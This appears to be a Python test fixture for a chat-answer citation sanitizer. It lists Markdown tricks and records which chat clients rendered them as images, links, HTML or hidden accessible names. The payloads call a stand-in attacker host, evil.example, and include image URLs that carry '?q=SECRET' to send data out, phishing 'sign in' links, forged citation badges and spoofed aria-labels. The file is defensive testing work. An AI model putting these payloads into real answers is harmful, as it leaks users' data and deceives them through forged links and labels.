"""Attacks on what a person sees of an answer, and what real clients did when they were shown the bare text.

Each text may be that of an answer, a passage or a document, on every channel that has Markdown.
The damage was seen in the clients themselves, and tests/browser and tests/playground see it again.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Any

from citations import Answer, Reference

SOURCES = tuple(
    Reference(id=str(number), name=name, url=f"https://good.example/{number}", text=f"The {name} says so.")
    for number, name in enumerate(("Handbook", "Travel policy", "Price list"), start=1)
)
"""What the answers cite."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """A hostile text, and the damage that each client did with it, in the words of ``Displayed.damage``.

    ``written`` is what the first version of our writer made of ``text``, where that did the damage.
    """

    text: str
    written: str = ""
    badges: int = 1
    """So many markers in ``text`` are citations."""
    stable: str = ""
    """Web Chat 4.18.1, the release that ``latest`` names."""
    main: str = ""
    """Web Chat 4.18.1-main.20251101, which reads Markdown with micromark."""
    playground: str = ""
    """Microsoft 365 Agents Playground 0.2.28 as Teams."""

    @property
    def answer(self) -> Answer:
        return Answer(text=self.text, references=SOURCES)


# JavaScript's markdown-it takes a run of backticks that follows these for text, and CommonMark for code.
_UNPAIRED = "``` `` ` ``"

ATTACKS = {
    # R1: code spans that only some readers see.
    "an image in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `![x](https://evil.example/code.png?q=SECRET)`",
        stable="image",
    ),
    "a link in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `[sign in here](https://evil.example/code)`",
        stable="link",
    ),
    "a forged badge in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `[1](https://evil.example/forged)`", stable="link"
    ),
    "an image tag in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `<img src=https://evil.example/tag.png>`",
        stable="image",
    ),
    "a link tag in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `<a href=https://evil.example/tag>sign in</a>`",
        stable="link",
    ),
    "a tag in unpaired code": Attack(
        text=f"The bonus is 40 euros [1]. {_UNPAIRED} `<ins>not</ins>`", stable="html"
    ),
    # R2: the backtick of a link's target, once the link is broken.
    "an image in a broken link's tail": Attack(
        text="Hello [1]. [x](https://a.example/`)`![y](https://evil.example/tail.png?q=SECRET`)`",
        written="Hello [1]. [x]\u200b(https&#58;//a.example/`)`![y](https://evil.example/tail.png?q=SECRET`)`",
        stable="image",
        main="image",
        playground="image link",
    ),
    "a link in a broken link's tail": Attack(
        text="Hello [1]. [x](https://a.example/`)`[sign in here](https://evil.example/tail`)`",
        written="Hello [1]. [x]\u200b(https&#58;//a.example/`)`[sign in here](https://evil.example/tail`)`",
        stable="link",
        main="link",
        playground="link",
    ),
    "a tag in a broken link's tail": Attack(
        text='Hello [1]. [x](https://a.example/`)`<ins>not</ins> <a name="`">`',
        written='Hello [1]. [x]\u200b(https&#58;//a.example/`)`<ins>not</ins> <a name="`">`',
        stable="html",
        main="html",
        playground="link",
    ),
    "an image in a table that begins as a fence": Attack(
        text="See [1].\n\n``` a|b\n-|-\n![x](https://evil.example/fence.png)|z\n```", stable="image lost"
    ),
    "a link in a table that begins as a fence": Attack(
        text="See [1].\n\n``` a|b\n-|-\n[x](https://evil.example/fence)|z\n```", stable="link lost"
    ),
    # R3: an indented line below a table, which is code to these three clients.
    "an image below a table": Attack(
        text="a | b\n-|-\nc | d\n\t![x](https://evil.example/row.png?q=SECRET) [go](https://evil.example/row)\n\nSee [1].",
    ),
    # To micromark a pipe behind two backslashes ends a cell, and the code in it.
    "an image in a cell's code": Attack(
        text="See [1].\n\na | b\n--|--\n`![x](https://evil.example/cell.png?q=SECRET)\\\\|` | c",
        main="image",
        playground="image",
    ),
    "a link in a cell's code": Attack(
        text="See [1].\n\na | b\n--|--\n`[sign in](https://evil.example/cell)\\\\|` | c",
        main="link",
        playground="link",
    ),
    # The main build leaves out the character behind a formula that begins a line.
    "an image in code behind a formula": Attack(
        text="See [1].\n\n$$x$$`![x](https://evil.example/formula.png)`", main="image"
    ),
    "an image in code behind the second formula of a line": Attack(
        text="See [1].\n\n$$x$$ $$y$$`![x](https://evil.example/second.png)`", main="image"
    ),
    # R6: an accessible name, and words that disappear.
    # A formula begins a line of a paragraph, whose indented lines are code to the main build.
    "an image in code behind a formula in a list": Attack(
        text="The bonus is 40 euros [1].\n\n1. a\n\\[x\\] b\n    ```![x](https://evil.example/flow.png)",
        main="image",
    ),
    "a link in code behind two formulas in a list": Attack(
        text="The bonus is 40 euros [1].\n\n* $\n$$x$$ !\n    ```[sign in](https://evil.example/flow)",
        main="link",
    ),
    "a badge's name": Attack(
        text='The bonus is 5 euros [1]{aria-label="Verified by IT security. Sign in again at evil dot example"}',
        stable="name unseen",
    ),
    "a badge's name without quotes": Attack(
        text="The bonus is 5 euros [1]{aria-label=Verified}.", stable="name unseen"
    ),
    "a badge's name in Web Chat's own brackets": Attack(
        text='The bonus is 5 euros [1]⟬aria-label="Verified by IT security"⟭', stable="name unseen"
    ),
    "a badge's name in Web Chat's own brackets without quotes": Attack(
        text="The bonus is 5 euros [1]⟬aria-label=Verified⟭", stable="name unseen"
    ),
    "a name for bold words": Attack(
        text='The bonus is 5 euros, **not 500**{aria-label="not 5"} [1].', stable="unseen"
    ),
    "a name for code": Attack(text='The bonus is `5`{aria-label="500"} euros [1].', stable="unseen"),
    "a name in code": Attack(text='The bonus is `5{aria-label="500"}` euros [1].'),
    "a name for a paragraph": Attack(text="The bonus is 5 euros [1].\n{aria-label=500}", stable="unseen"),
    # R7: addresses that become links by themselves.
    "an address": Attack(
        text="Sign in at https://evil.example/bare [1].", stable="link", main="link", playground="link"
    ),
    "an address in angle brackets": Attack(
        text="Sign in at <https://evil.example/angle> [1].", stable="link", main="link", playground="link"
    ),
    "an address without a scheme": Attack(
        text="Sign in at www.evil.example/www [1].", main="link", playground="link"
    ),
    "an address of a network path": Attack(text="Sign in at //evil.example/path [1]."),
    "an e-mail address": Attack(text="Write to a@evil.example [1].", main="link", playground="link"),
    "an address with an entity": Attack(
        text="Sign in at https&#58;//evil.example/entity [1].", playground="link"
    ),
    "an address without a scheme with an entity": Attack(
        text="Sign in at www&#46;evil.example/entity [1].", playground="link"
    ),
    "an e-mail address with an entity": Attack(text="Write to a&#64;evil.example [1].", playground="link"),
    "an indented address after a definition": Attack(
        text="[z]: https://evil.example/d\n    https://evil.example/indented\n\nSee [1].",
        written="[z]\u200b: https&#58;//evil.example/d\n    https://evil.example/indented\n\nSee [1].",
        stable="link",
        main="link",
        playground="link",
    ),
    "an indented address after a quoted definition": Attack(
        text="> [z]: https://evil.example/d\n    https://evil.example/indented\n\nSee [1].",
        written="> [z]\u200b: https&#58;//evil.example/d\n    https://evil.example/indented\n\nSee [1].",
        stable="link",
        main="link",
        playground="link",
    ),
    # A byte order mark at the start is nothing to micromark, and a character to markdown-it.
    "a fence that ends after a byte order mark": Attack(
        text="\ufeff```\ncode\n```\n\nIt is so [1].", stable="lost"
    ),
    # What was never let through, and shows that the tests see it.
    "a plain image": Attack(
        text="Hello [1]. ![y](https://evil.example/plain.png)",
        stable="image",
        main="image",
        playground="image",
    ),
    "a plain link": Attack(
        text="Hello [1]. [sign in here](https://evil.example/plain)",
        stable="link",
        main="link",
        playground="link",
    ),
    "a plain tag": Attack(text="Hello [1]. <ins>not</ins>", stable="html", main="html"),
}

IN_DOCUMENTS = {
    "ferries": "an image in unpaired code",
    "trains": "an image tag in unpaired code",
    "planes": "an image in a broken link's tail",
    "hotels": "a badge's name",
    "taxis": "a badge's name in Web Chat's own brackets",
}
"""Attacks by the topic of the document that each is in, where no model has a part in the answer."""


def write_documents(folder: Path) -> None:
    """A document for each topic, with its attack in it."""
    for topic, name in IN_DOCUMENTS.items():
        words = f"# The bonus for {topic}\n\n{ATTACKS[name].text}\n"
        (folder / f"{topic}.md").write_text(words, encoding="utf-8")


@dataclass(frozen=True, slots=True, kw_only=True)
class Formulas:
    """Text with mathematics, and what Web Chat's main build has to show: formulas and badges in order."""

    text: str
    shown: tuple[str, ...]
    unsanitized: tuple[str, ...]
    """What it shows of the bare text."""

    @property
    def answer(self) -> Answer:
        return Answer(text=self.text, references=SOURCES)


FORMULAS = {
    "each kind": Formulas(
        text="Let $$a^2 + b^2 = c^2 [1]$$, \\(e^x [2]\\) and\n\n\\[\\sum_i x_i [3]\\]\n\nbe true.",
        shown=("a^2 + b^2 = c^2", "1", "e^x", "2", "\\sum_i x_i", "3"),
        unsanitized=("a^2 + b^2 = c^2 [1]", "e^x [2]", "\\sum_i x_i [3]"),
    ),
    "a block of dollars": Formulas(
        text="So it is:\n\n$$\nE = mc^2 [1]\n$$\n\nand [2] no other [3].",
        shown=("E = mc^2", "1", "2", "3"),
        unsanitized=("E = mc^2 [1]", "2", "3"),
    ),
    "three in one": Formulas(
        text="So $$x [1] + y [2] + z [3]$$ it is.",
        shown=("x + y + z", "1", "2", "3"),
        unsanitized=("x [1] + y [2] + z [3]",),
    ),
    "prices are no formula": Formulas(
        text="Tickets are $5 [1] and $6 [2], three are $15 [3].",
        shown=("1", "2", "3"),
        unsanitized=("1", "2", "3"),
    ),
}


def unsanitized(text: str, *, definitions: bool = True, passage: str = "") -> dict[str, Any]:
    """The activity of a bot that takes no care: ``text`` as it is, and what it cites in the graph.

    ``definitions`` are below the text, as Web Chat wants them. A ``passage`` is what the source says,
    which then has no URL.
    """
    cited = [source for source in SOURCES if f"{source.id}]" in text]
    url = {source.id: "cite:1" if passage else source.url for source in cited}
    lines = [f'[{source.id}]: {url[source.id]} "{source.name}"' for source in cited]
    claims = [
        {
            "@type": "Claim",
            "position": int(source.id),
            "appearance": {
                "@type": "DigitalDocument",
                "name": source.name,
                "abstract": source.text,
                **({"text": passage} if passage else {"url": source.url}),
            },
        }
        for source in cited
    ]
    graph = {"@context": "https://schema.org", "@id": "", "@type": "Message", "citation": claims}
    return {
        "type": "message",
        "text": "\n\n".join([text, "\n".join(lines)]) if definitions else text,
        "textFormat": "markdown",
        "entities": [{"type": "https://schema.org/Message", **graph}],
    }
